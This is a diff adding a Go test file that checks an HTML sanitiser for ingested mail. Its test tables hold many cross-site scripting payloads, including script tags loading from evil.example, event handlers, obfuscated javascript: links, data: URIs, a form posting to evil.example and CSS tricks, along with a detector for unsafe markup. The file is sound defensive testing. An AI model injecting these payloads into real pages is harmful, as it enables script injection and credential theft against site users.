@@ -1,0 +1,137 @@
+package ingest
+
+import (
+	"strings"
+	"testing"
+
+	xhtml "golang.org/x/net/html"
+)
+
+// unsafeMarkup reports the first thing in sanitised HTML that could run
+// code, navigate, submit or load a resource, or "" when there is none.
+func unsafeMarkup(s string) string {
+	if strings.Contains(strings.ToLower(s), "<script") {
+		return "<script"
+	}
+	z := xhtml.NewTokenizer(strings.NewReader(s))
+	for {
+		switch z.Next() {
+		case xhtml.ErrorToken:
+			return ""
+		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
+			tok := z.Token()
+			switch tok.Data {
+			case "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math", "textarea":
+				return "<" + tok.Data
+			}
+			for _, a := range tok.Attr {
+				v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
+				switch {
+				case strings.HasPrefix(a.Key, "on"):
+					return "attribute " + a.Key
+				case a.Key == "src" || a.Key == "srcset" || a.Key == "background" || a.Key == "action" || a.Key == "formaction":
+					return "attribute " + a.Key
+				case strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") || strings.Contains(v, "data:"):
+					return a.Key + "=" + a.Val
+				case a.Key == "style" && (strings.Contains(v, "url(") || strings.Contains(v, "expression(") || strings.Contains(v, "@import")):
+					return "style " + a.Val
+				case a.Key == "target" && a.Val != "_blank":
+					return "target " + a.Val
+				}
+			}
+		}
+	}
+}
+
+func TestSanitizeHTMLHostile(t *testing.T) {
+	tests := []struct {
+		name string
+		in   string
+		keep string // visible text that must survive
+	}{
+		{name: "script tag", in: `<p>hi</p><script>alert(1)</script>`, keep: "hi"},
+		{name: "script in caps", in: `<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>hi</p>`, keep: "hi"},
+		{name: "event handler", in: `<p onclick="alert(1)" onmouseover=alert(2)>hi</p>`, keep: "hi"},
+		{name: "img onerror", in: `<img src=x onerror=alert(1)>hi`, keep: "hi"},
+		{name: "javascript link", in: `<a href="javascript:alert(1)">hi</a>`, keep: "hi"},
+		{name: "javascript link with entities", in: `<a href="&#106;avascript:alert(1)">hi</a>`, keep: "hi"},
+		{name: "javascript link with tab", in: "<a href=\"java\tscript:alert(1)\">hi</a>", keep: "hi"},
+		{name: "vbscript link", in: `<a href="vbscript:msgbox(1)">hi</a>`, keep: "hi"},
+		{name: "data link", in: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">hi</a>`, keep: "hi"},
+		{name: "svg onload", in: `<svg onload=alert(1)><circle r=5 /></svg><p>hi</p>`, keep: "hi"},
+		{name: "svg script", in: `<svg><script>alert(1)</script></svg><p>hi</p>`, keep: "hi"},
+		{name: "meta refresh", in: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>hi</p>`, keep: "hi"},
+		{name: "base href", in: `<base href="https://evil.example/"><a href="/x">hi</a>`, keep: "hi"},
+		{name: "form", in: `<form action="https://evil.example"><input name=pw><button formaction="javascript:alert(1)">go</button></form><p>hi</p>`, keep: "hi"},
+		{name: "iframe", in: `<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>`, keep: "hi"},
+		{name: "object and embed", in: `<object data="x.swf"></object><embed src="x.swf"><p>hi</p>`, keep: "hi"},
+		{name: "css expression", in: `<div style="width: expression(alert(1))">hi</div>`, keep: "hi"},
+		{name: "css url", in: `<div style="background-image: url(javascript:alert(1)); color: red">hi</div>`, keep: "hi"},
+		{name: "css import in style tag", in: `<style>@import url(https://evil.example/x.css); body{background:url(https://t.example/p)}</style><p>hi</p>`, keep: "hi"},
+		{name: "link stylesheet", in: `<link rel="stylesheet" href="https://evil.example/x.css"><p>hi</p>`, keep: "hi"},
+		{name: "target top", in: `<a href="https://ok.example" target="_top">hi</a>`, keep: "hi"},
+		{name: "background attribute", in: `<table background="https://t.example/p.gif"><tr><td>hi</td></tr></table>`, keep: "hi"},
+		{name: "srcset", in: `<img srcset="https://t.example/p.gif 1x">hi`, keep: "hi"},
+		{name: "data image", in: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hi`, keep: "hi"},
+		{name: "broken markup", in: `<p <script>alert(1)</script>hi`, keep: "hi"},
+		{name: "comment trick", in: `<!--><script>alert(1)</script>--><p>hi</p>`, keep: "hi"},
+		{name: "noscript mutation", in: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">hi</p></noscript><p>hi</p>`, keep: "hi"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := SanitizeHTML(tt.in)
+			if bad := unsafeMarkup(got); bad != "" {
+				t.Errorf("got %q, which keeps %s", got, bad)
+			}
+			if !strings.Contains(got, tt.keep) {
+				t.Errorf("got %q, want it to keep %q", got, tt.keep)
+			}
+		})
+	}
+}
+
+func TestSanitizeHTMLKeeps(t *testing.T) {
+	tests := []struct {
+		name string
+		in   string
+		want string
+	}{
+		{name: "formatting", in: `<p><b>bold</b> <i>it</i> <u>u</u></p>`, want: `<p><b>bold</b> <i>it</i> <u>u</u></p>`},
+		{name: "table", in: `<table border="1"><tr><td colspan="2">x</td></tr></table>`, want: `<table border="1"><tr><td colspan="2">x</td></tr></table>`},
+		{name: "link", in: `<a href="https://example.com/a?b=1">x</a>`, want: `<a href="https://example.com/a?b=1" rel="noreferrer noopener" target="_blank">x</a>`},
+		{name: "mailto", in: `<a href="mailto:bob@example.com">bob</a>`, want: `<a href="mailto:bob@example.com" rel="noreferrer">bob</a>`},
+		{name: "safe style", in: `<span style="color: red; font-weight: bold">x</span>`, want: `<span style="color: red; font-weight: bold">x</span>`},
+		{name: "cid image", in: `<img src="cid:abc%40x" alt="a">`, want: `<img data-cid="abc@x" alt="a">`},
+		{name: "remote image blocked", in: `<img src="https://t.example/p.gif?id=1&amp;u=2">`, want: `<img data-remote-src="https://t.example/p.gif?id=1&amp;u=2">`},
+		{name: "forged data-cid dropped", in: `<img data-cid="x" data-remote-src="javascript:alert(1)" src="https://ok.example/i.png">`, want: `<img data-remote-src="https://ok.example/i.png">`},
+		{name: "ids dropped", in: `<div id="login-form">x</div>`, want: `<div>x</div>`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := SanitizeHTML(tt.in); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestTextToHTML(t *testing.T) {
+	tests := []struct {
+		name, in, want string
+	}{
+		{name: "escapes", in: `<script>alert("x")</script> & co`, want: `<p>&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; co</p>`},
+		{name: "line breaks", in: "a\r\nb\n\nc\n", want: "<p>a<br>\nb<br>\n<br>\nc</p>"},
+		{name: "empty", in: "\n\n", want: ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := TextToHTML(tt.in)
+			if got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+			if again := SanitizeHTML(got); again != got {
+				t.Errorf("sanitising TextToHTML output changed it: got %q, want %q", again, got)
+			}
+		})
+	}
+}
